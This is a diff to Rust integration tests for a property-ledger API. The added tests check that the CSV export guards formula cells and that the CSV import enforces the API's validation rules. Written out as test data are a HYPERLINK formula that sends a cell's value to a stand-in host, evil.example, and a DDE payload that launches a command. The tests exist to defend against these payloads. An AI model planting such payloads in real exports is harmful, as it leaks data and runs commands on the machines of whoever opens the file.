@@ -61,11 +61,19 @@ async fn seeded_village(app: &TestApp) -> (common::Village, Session, Session, Se
         &["ESC-01", "MGT-01"],
     )
     .await;
-    let old = anzu::ids::today()
-        .checked_sub_months(chrono::Months::new(25))
-        .unwrap()
-        .to_string();
-    inspect(app, &inspector, &properties[2], "apartment", &old, &[]).await;
+    // Rated 25 months ago, so expired: an inspection may be entered at most 366 days back, so the validity
+    // such a rating would have is set directly.
+    inspect(app, &inspector, &properties[2], "apartment", &date(-366), &[]).await;
+    {
+        use anzu::db::schema::properties;
+        use diesel::prelude::*;
+        let expired_on = anzu::ids::today().checked_sub_months(chrono::Months::new(1)).unwrap();
+        let mut conn = app.db.get().unwrap();
+        diesel::update(properties::table.filter(properties::id.eq(&properties[2])))
+            .set(properties::rating_valid_until.eq(expired_on))
+            .execute(&mut *conn)
+            .unwrap();
+    }
     let mut seq = 1;
     for (i, pid) in properties.iter().enumerate() {
         for u in 0..2 {
@@ -412,7 +420,17 @@ async fn bad_rows_are_named_and_nothing_is_written(backend: Backend) {
         .collect();
     assert_eq!(
         rejected,
-        vec![(3, "area_m2"), (4, "grid"), (5, "unit_label"), (6, "owner_email")]
+        vec![
+            (3, "area_m2"),
+            (4, "grid"),
+            (5, "unit_label"),
+            (6, "owner_email"),
+            (6, "unit_label"),
+            (6, "unit_floor"),
+            (6, "area_m2"),
+            (6, "unit_kind")
+        ],
+        "every bad cell of a line is named"
     );
     assert_eq!(
         (answer["accepted"].as_u64(), answer["committed"].as_bool()),
@@ -522,3 +540,228 @@ backend_tests!(
     bad_rows_are_named_and_nothing_is_written,
     patrols_are_recorded_by_village_inspectors,
 );
+
+const FORMULA_NAME: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+
+/// A cell that a spreadsheet would run as a formula is exported with a leading `'`; the import takes it off
+/// again, so the ledger goes round unchanged.
+async fn ledger_cells_never_run_as_formulas(backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let v = app.setup_village().await;
+    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
+    let address = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let property = app
+        .post(
+            "/api/v1/properties",
+            Some(&landlord.token),
+            json!({"name": FORMULA_NAME, "address": address, "village_id": v.id, "kind": "apartment",
+                   "floors": 3, "floor_area_m2": 300.0}),
+        )
+        .await
+        .expect(201)
+        .body;
+    let pid = property["id"].as_str().unwrap();
+    app.post(
+        &format!("/api/v1/properties/{pid}/units"),
+        Some(&landlord.token),
+        json!({"label": "-1", "floor": -1, "area_m2": 20.0, "kind": "workshop"}),
+    )
+    .await
+    .expect(201);
+
+    let export = app
+        .get(
+            &format!("/api/v1/reports/ledger.csv?village_id={}", v.id),
+            Some(&v.admin.token),
+        )
+        .await
+        .expect(200);
+    let (header, rows) = csv_rows(&export.bytes);
+    let cell = |key: &str| {
+        let at = header.iter().position(|h| h.ends_with(&format!("({key})"))).unwrap();
+        rows[0][at].clone()
+    };
+    assert_eq!(cell("property_name"), format!("'{FORMULA_NAME}"));
+    assert_eq!(cell("address"), format!("'{address}"));
+    assert_eq!(cell("unit_label"), "'-1", "a text column is guarded");
+    assert_eq!(cell("unit_floor"), "-1", "a numeric column stays a number");
+    for row in &rows {
+        for value in row {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']) || value.parse::<f64>().is_ok(),
+                "{value}"
+            );
+        }
+    }
+
+    // Into a fresh database with the same village: the original text comes back.
+    let fresh = TestApp::start(backend).await;
+    let admin = fresh.admin().await;
+    let village = fresh
+        .post(
+            "/api/v1/villages",
+            Some(&admin.token),
+            json!({"name": "Again", "code": v.code}),
+        )
+        .await
+        .expect(201)
+        .body;
+    let vid = village["id"].as_str().unwrap();
+    let imported = fresh
+        .send_raw(
+            "POST",
+            &format!("/api/v1/imports/ledger?village_id={vid}"),
+            Some(&admin.token),
+            "text/csv",
+            export.bytes.clone(),
+        )
+        .await
+        .expect(200)
+        .body;
+    assert_eq!(imported["rejected"], json!([]));
+    assert_eq!(imported["committed"], true);
+    let properties = fresh
+        .get(&format!("/api/v1/properties?village_id={vid}"), Some(&admin.token))
+        .await
+        .expect(200)
+        .body;
+    let copy = &properties["items"][0];
+    assert_eq!(copy["name"], FORMULA_NAME);
+    assert_eq!(copy["address"], address);
+    let units = fresh
+        .get(
+            &format!("/api/v1/properties/{}/units", copy["id"].as_str().unwrap()),
+            Some(&admin.token),
+        )
+        .await
+        .expect(200)
+        .body;
+    assert_eq!(
+        (&units["items"][0]["label"], &units["items"][0]["floor"]),
+        (&json!("-1"), &json!(-1))
+    );
+}
+
+backend_tests!(ledger_cells_never_run_as_formulas);
+
+/// The import reads each line into the API's request types and checks them with the API's rules: what the
+/// API refuses, a file cannot slip in, and every bad cell is named without its value.
+async fn the_ledger_import_runs_the_api_rules(backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let v = app.setup_village().await;
+    let header = "房屋名称(property_name),地址(address),房屋类型(kind),楼层数(floors),建筑面积(floor_area_m2),房东姓名(owner_name),房东电话(owner_phone),房东邮箱(owner_email),单元(unit_label),所在楼层(unit_floor),单元面积(area_m2),单元类型(unit_kind),核定人数(max_occupants)";
+    let owner = "张三,13700000001,zhang@example.cn";
+    let long_name = "楼".repeat(5000);
+    let file = [
+        header.to_owned(),
+        format!("{long_name},东路1号,apartment,3,200,{owner},101,1,15,room,"),
+        "好楼,东路1号,apartment,3,200,\"张\r\n三\",13700000001,zhang@example.cn,102,1,15,room,".to_owned(),
+        format!("好楼,东路1号,apartment,3,1e308,{owner},103,1,15,room,"),
+        format!("好楼,东路1号,apartment,3,200,{owner},104,1,15,room,2147483647"),
+        format!("好楼,东路1号,castle,3.5,200,{owner},105,99999999999,NaN,cave,-1"),
+        format!("好\u{202E}楼,东路1号,apartment,3,200,{owner},106,1,15,room,"),
+        format!("Cafe\u{301},东路1号,apartment,3,200,{owner},107,1,15,room,4"),
+    ]
+    .join("\n");
+    let path = format!("/api/v1/imports/ledger?village_id={}&partial=true", v.id);
+    let answer = app
+        .send_raw("POST", &path, Some(&v.admin.token), "text/csv", file.into_bytes())
+        .await
+        .expect(200);
+    let report = &answer.body;
+    let rejected: Vec<(u64, &str)> = report["rejected"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| (r["line"].as_u64().unwrap(), r["column"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        rejected,
+        vec![
+            (2, "property_name"),
+            (3, "owner_name"),
+            (5, "floor_area_m2"),
+            (6, "max_occupants"),
+            (7, "kind"),
+            (7, "floors"),
+            (7, "unit_floor"),
+            (7, "area_m2"),
+            (7, "unit_kind"),
+            (7, "max_occupants"),
+            (8, "property_name"),
+        ],
+        "{report}"
+    );
+    let text = String::from_utf8_lossy(&answer.bytes);
+    for echoed in [
+        "楼楼楼",
+        "1e308",
+        "2147483647",
+        "99999999999",
+        "castle",
+        "cave",
+        "NaN",
+        "\u{202E}",
+    ] {
+        assert!(!text.contains(echoed), "{echoed} in {text}");
+    }
+    let kind_reason = report["rejected"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["column"] == "kind")
+        .unwrap()["reason"]
+        .clone();
+    assert_eq!(
+        kind_reason,
+        "must be one of: apartment, shared_house, factory, shop, mixed_use"
+    );
+    assert_eq!(
+        (report["accepted"].as_u64(), report["committed"].as_bool()),
+        (Some(1), Some(true))
+    );
+
+    let properties = app
+        .get(&format!("/api/v1/properties?village_id={}", v.id), Some(&v.admin.token))
+        .await
+        .expect(200)
+        .body;
+    let items = properties["items"].as_array().unwrap();
+    assert_eq!(items.len(), 1);
+    assert_eq!(items[0]["name"], "Caf\u{e9}", "stored NFC-normalised");
+    assert_eq!(items[0]["capacity"], 4);
+    assert_eq!(app.count("units"), 1);
+}
+
+backend_tests!(the_ledger_import_runs_the_api_rules);
+
+/// A patrol's date stays within 1900–2100 and its notes refuse invisible characters.
+async fn patrols_follow_the_input_rules(backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let v = app.setup_village().await;
+    let inspector = app.user(&v.admin, "inspector", Some(&v.id)).await;
+    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
+    let grid = app
+        .post(
+            &format!("/api/v1/villages/{}/grids", v.id),
+            Some(&v.admin.token),
+            json!({"name": "一组", "code": "G1"}),
+        )
+        .await
+        .expect(201)
+        .body;
+    let path = format!("/api/v1/grids/{}/patrols", grid["id"].as_str().unwrap());
+    let p = app.property(&landlord, &v.id).await;
+    let answer = app
+        .post(
+            &path,
+            Some(&inspector.token),
+            json!({"patrolled_on": "1899-12-31", "visits": [{"property_id": p["id"], "finding": "issue", "note": "杂物\u{202E}"}]}),
+        )
+        .await;
+    assert_eq!(answer.error_fields(), vec!["patrolled_on", "visits[0].note"]);
+    answer.problem(422);
+    assert_eq!(app.count("patrols"), 0);
+}
+
+backend_tests!(patrols_follow_the_input_rules);
